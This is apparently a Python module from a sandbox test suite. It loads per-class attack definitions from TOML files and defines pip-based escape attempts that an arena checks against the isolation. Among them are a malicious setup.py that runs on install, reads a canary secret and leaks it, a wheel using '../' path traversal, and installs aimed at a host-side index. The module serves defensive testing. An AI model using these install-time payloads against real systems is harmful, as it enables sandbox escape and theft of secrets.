"""The attacks that hostile code tries from inside the isolation; `arena.py` judges them.

They stand in a TOML file for each class, as sets of names and code, with what is not as usual: `control = false` (see
`attack.py`), `limits`, `layered`, and `x86` for the numbers of that machine's system calls. A set's templates say what
becomes of each: `@name@` and `@code@` stand for what the set says, `@repr@` for the name as Python writes it, and other
words for the file's `parts` or for numbers of this machine.
"""

from __future__ import annotations

import os
import tomllib
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import Any

from natlang_envs.sandbox.attacks.attack import LIMITS, LONG, PRELUDE, SHORT, Attack

_CLASSES = ("read", "write", "reach", "rights", "bomb", "hold", "left", "pip", "call", "layer")
_X86 = os.uname().machine == "x86_64"
_NUMBERS = {
    "FILES": LIMITS.disk // 4096 * 11 // 10,
    "ROOM": LIMITS.memory * 11 // 10,
    # System calls: exit, clone, rt_sigqueueinfo, timer_create.
    **dict(zip(("EXIT", "CLONE", "SIGNAL", "TIMER"), (60, 56, 129, 222) if _X86 else (93, 220, 138, 107), strict=True)),
}
_LIMITS = {"usual": LIMITS, "short": SHORT}


def _read(name: str) -> Iterator[tuple[str, Attack]]:
    content = tomllib.loads(Path(__file__).with_name(f"{name}.toml").read_text(encoding="utf-8"))
    words = content.get("parts", {}) | {word: str(number) for word, number in _NUMBERS.items()}
    for each in content["sets"]:
        for name, code in each["attacks"].items():
            given = {"name": name, "code": code, "repr": repr(name)}
            for template in each.get("templates", ({"name": "@name@", "code": "@code@"},)):
                yield (
                    _filled(template["name"], given),
                    _attack(each | template, _filled(template["code"], given | words)),
                )


def _filled(text: str, words: Mapping[str, str]) -> str:
    before = ""
    while before != text:  # what a word stands for may hold others
        before = text
        for word, meaning in words.items():
            text = text.replace(f"@{word}@", meaning)
    return text


def _attack(about: Mapping[str, Any], code: str) -> Attack:
    if about.get("x86") and not _X86:
        return Attack("raise OSError", control=False)
    limits = _LIMITS[about.get("limits", "usual")]
    return Attack(code, about.get("control", True), limits, layered=about.get("layered", False))


_SETUP = """
import setuptools
exec(open('attack.py').read())
setuptools.setup(name='hostile', version='1')
"""
_HOSTILE = "quiet(lambda: leak(open(P['canary']).read()))\nquiet(lambda: open(P['outside'] + '/new', 'w'))\n"
_PROJECT = f"""import sys, os
os.makedirs('project')
open('project/setup.py', 'w').write({_SETUP!r})
open('project/attack.py', 'w').write('import sys; sys.argv[1:], saved = [' + repr(sys.argv[1]) + '], sys.argv[1:]\\n'
    + {PRELUDE!r} + {_HOSTILE!r} + "open('/work/ran', 'w').write('hostile setup.py')\\nsys.argv[1:] = saved\\n")
"""
_WHEEL = """
import zipfile
def wheel(members):
    info = 'evil-1.dist-info/'
    members = {**members, info + 'METADATA': 'Metadata-Version: 2.1\\nName: evil\\nVersion: 1\\n',
        info + 'WHEEL': 'Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n'}
    members[info + 'RECORD'] = ''.join(f'{name},,\\n' for name in (*members, info + 'RECORD'))
    with zipfile.ZipFile('evil-1-py3-none-any.whl', 'w') as archive:
        for name, text in members.items(): archive.writestr(name, text)
"""
_PIP = {
    "setup.py": Attack(_PROJECT, False, LONG, ("install", "./project")),
    "setup.py of a wheel build": Attack(_PROJECT, False, LONG, ("wheel", "--no-deps", "./project")),
    "wheel with dots": Attack(
        _WHEEL + "wheel({'../' * 20 + P['outside'][1:] + '/new': 'x'})",
        False,
        LONG,
        ("install", "./evil-1-py3-none-any.whl"),
    ),
    "target outside": Attack(
        _WHEEL + "wheel({'evil.py': ''})",
        False,
        LONG,
        ("install", "--target", "{outside}", "./evil-1-py3-none-any.whl"),
    ),
    "an index on the host": Attack("", False, LONG, ("install", "--index-url=http://127.0.0.1:{tcp}/", "x")),
    "an address on the host": Attack("", False, LONG, ("install", "http://127.0.0.1:{tcp}/x.tar.gz")),
    "a requirements file": Attack(
        "open('r.txt', 'w').write(f'--index-url http://127.0.0.1:{P[\"tcp\"]}/\\nx\\n')",
        False,
        LONG,
        ("install", "-r", "r.txt"),
    ),
    "a file outside": Attack("", False, LONG, ("install", "-r", "{canary}")),
}

GROUPS = {name: _PIP if name == "pip" else dict(_read(name)) for name in _CLASSES}
ATTACKS = {f"{group}: {name}": attack for group, named in GROUPS.items() for name, attack in named.items()}
